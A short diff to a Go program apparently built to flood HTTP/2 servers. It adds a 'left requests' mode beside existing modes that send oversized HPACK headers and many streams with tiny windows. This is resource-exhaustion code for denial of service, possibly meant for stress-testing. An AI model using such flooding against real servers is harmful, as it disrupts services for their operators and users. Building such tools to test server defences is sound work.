@@ -171,6 +171,11 @@ func (g *greedy) flood(c net.Conn) {
 				_ = enc.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 3000)}) // a buffer takes everything
 			}
 			err = g.ask(f, id, block.Bytes()[:min(block.Len(), 16<<10)])
+		case "left requests":
+			if err = g.ask(f, id, block.Bytes()); id > 200 {
+				_ = out.Flush() // it ends either way
+				return
+			}
 		case "tiny windows":
 			err = g.ask(f, id, block.Bytes())
 			if id >= 200 {
